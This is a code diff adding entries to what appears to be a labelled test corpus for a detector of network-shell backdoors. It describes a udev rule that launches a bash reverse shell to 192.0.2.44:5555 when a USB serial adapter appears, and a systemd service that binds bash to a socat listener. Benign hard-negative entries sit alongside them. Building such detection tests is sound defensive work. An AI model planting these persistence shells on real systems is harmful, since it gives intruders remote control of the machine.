@@ -947,6 +947,12 @@ add("access/profile-shell/root/.bashrc", "access-network-shell", "any", "text", 
 add("access/profile-benign/etc/profile.d/prompt.sh", "access-benign", "any", "text", "clean",
     [], REMOTE_RULES + [R["rootlogin"]], [],
     "Hard negative: a prompt, and echo > /dev/tcp/127.0.0.1/8125 to check that a local agent answers.")
+add("access/udev-shell/etc/udev/rules.d/99-usb-serial.rules", "access-network-shell", "any", "text", "malicious",
+    [R["netshell"]], [R["emptyremote"]], [],
+    "A udev rule whose RUN+= starts /bin/sh -c 'nohup bash -i >& /dev/tcp/192.0.2.44/5555 0>&1 &' when a USB serial adapter appears.")
+add("access/udev-benign/etc/udev/rules.d/60-backup.rules", "access-benign", "any", "text", "clean",
+    [], REMOTE_RULES + [R["rootlogin"]], [],
+    "Hard negative: RUN+= of a backup script for a labelled disk, and a sh -c that writes a sysfs power setting.")
 add("access/socat-shell/etc/systemd/system/diag.service", "access-network-shell", "any", "text",
     "malicious", [R["netshell"]], [], [],
     "ExecStart=socat TCP-LISTEN:9999,reuseaddr,fork EXEC:/bin/bash,pty,stderr.")
